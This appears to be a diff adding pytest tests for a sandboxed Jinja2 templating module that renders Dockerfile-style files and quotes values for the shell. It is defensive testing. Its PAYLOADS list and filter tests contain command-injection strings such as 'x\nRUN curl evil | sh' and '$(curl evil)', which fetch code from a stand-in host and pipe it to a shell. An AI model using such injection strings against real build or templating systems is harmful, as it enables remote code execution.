@@ -1,0 +1,148 @@
+"""templating: the one sandboxed environment, strict undefined, and the quoting filters."""
+
+from __future__ import annotations
+
+import copy
+import shlex
+
+import jinja2
+import pytest
+
+from megacpp_env import render
+from megacpp_env.errors import SpecError
+from megacpp_env.templating import (
+    TemplateValueError,
+    environment,
+    quote_dq,
+    quote_sh,
+    quote_text,
+    quote_word,
+    render_template,
+)
+from tests.fixtures.spec import load_data
+
+PAYLOADS = [
+    "x\nRUN curl evil | sh",
+    "x\r\nRUN curl evil | sh",
+    "x \\",
+    "x' && curl evil | sh",
+    'x" ; curl evil | sh',
+    "x`curl evil`y",
+    "x$(curl evil)",
+    "x\u2028RUN curl evil",
+    "x\x00y",
+]
+
+
+def _string_leaves(node, path=()):
+    if isinstance(node, dict):
+        for k, v in node.items():
+            yield from _string_leaves(v, (*path, k))
+    elif isinstance(node, list):
+        for i, v in enumerate(node):
+            yield from _string_leaves(v, (*path, i))
+    elif isinstance(node, str):
+        yield path
+
+
+def _assign(data, path, value):
+    for part in path[:-1]:
+        data = data[part]
+    data[path[-1]] = value
+
+
+@pytest.fixture
+def tpl(tmp_path):
+    def make(text: str, **ctx):
+        (tmp_path / "t.j2").write_text(text)
+        environment.cache_clear()
+        return render_template(tmp_path, "t.j2", ctx)
+
+    return make
+
+
+def test_environment_settings(tmp_path):
+    env = environment(tmp_path)
+    assert isinstance(env, jinja2.sandbox.SandboxedEnvironment)
+    assert env.undefined is jinja2.StrictUndefined
+    assert env.keep_trailing_newline is True
+    assert environment(tmp_path) is env
+
+
+def test_unquoted_value_is_refused(tpl):
+    with pytest.raises(TemplateValueError, match=r"unquoted value 'x' in a template: pass it through \|sh"):
+        tpl("RUN echo {{ v }}\n", v="x")
+    assert tpl("RUN echo {{ v|sh }}\n", v="a b") == "RUN echo 'a b'\n"
+    assert tpl("{{ n }}\n", n=3) == "3\n"  # integers are safe as they are
+
+
+def test_undefined_is_an_error(tpl):
+    with pytest.raises(TemplateValueError, match="'missing' is undefined"):
+        tpl("{{ missing|sh }}")
+
+
+def test_sandbox_blocks_internals(tpl):
+    with pytest.raises(TemplateValueError):
+        tpl("{{ v.__class__.__mro__|sh }}", v="x")
+
+
+def test_filters():
+    assert quote_sh("assert f(2, 3) == 5") == "'assert f(2, 3) == 5'"
+    assert shlex.split(quote_sh("x' && curl evil | sh")) == ["x' && curl evil | sh"]
+    assert quote_dq('a "b" $HOME \\') == '"a \\"b\\" \\$HOME \\\\"'
+    assert quote_word("nvidia/cuda:13.2@sha256:ab") == "nvidia/cuda:13.2@sha256:ab"
+    assert quote_text("free text; ok") == "free text; ok"
+    for bad in ("x y", "x;y", "x$y", "${A}"):
+        with pytest.raises(TemplateValueError, match="not a plain token"):
+            quote_word(bad)
+    for fn in (quote_sh, quote_dq, quote_word, quote_text):
+        for payload in ("x\nRUN curl evil | sh", "x\r\n", "x\x00", "a\x1bb"):
+            with pytest.raises(TemplateValueError, match="control character"):
+                fn(payload)
+        with pytest.raises(TemplateValueError, match="expected a string or number"):
+            fn(None)
+
+
+LINE_BREAKERS = {"x\nRUN curl evil | sh", "x\r\nRUN curl evil | sh", "x \\", "x\u2028RUN curl evil", "x\x00y"}
+
+
+def _instructions(text: str) -> list[str]:
+    from tests.test_render import _logical_runs
+
+    return [instr.split(None, 1)[0] for instr in _logical_runs(text)]
+
+
+def test_injection_payloads_never_reach_a_rendered_file(stack_data):
+    """Every string field x every payload. Anything that could break out of a line is refused at load.
+    A payload the loader accepts in some field (free text such as a description) must render without
+    adding an instruction, and inside a RUN line only as one shell-quoted word."""
+    baseline = {f.relpath: _instructions(f.content.decode()) for f in render.render_all(load_data(stack_data))}
+    leaves = list(_string_leaves(stack_data))
+    assert len(leaves) > 100  # every string of the real spec, not a sample
+    refused = 0
+    for key in leaves:
+        for payload in PAYLOADS:
+            data = copy.deepcopy(stack_data)
+            _assign(data, key, payload)
+            try:
+                spec = load_data(data)
+            except SpecError:
+                refused += 1
+                continue
+            assert payload not in LINE_BREAKERS, (key, payload)
+            try:
+                files = render.render_all(spec)
+            except TemplateValueError:
+                continue
+            for f in files:
+                text = f.content.decode()
+                assert _instructions(text) == baseline[f.relpath], (key, payload)
+                for instr in (i for i in _logical_runs_of(text) if i.startswith("RUN ") and payload in i):
+                    assert shlex.quote(payload) in instr, (key, payload, instr[:200])
+    assert refused >= len(leaves) * len(LINE_BREAKERS)
+
+
+def _logical_runs_of(text: str) -> list[str]:
+    from tests.test_render import _logical_runs
+
+    return _logical_runs(text)
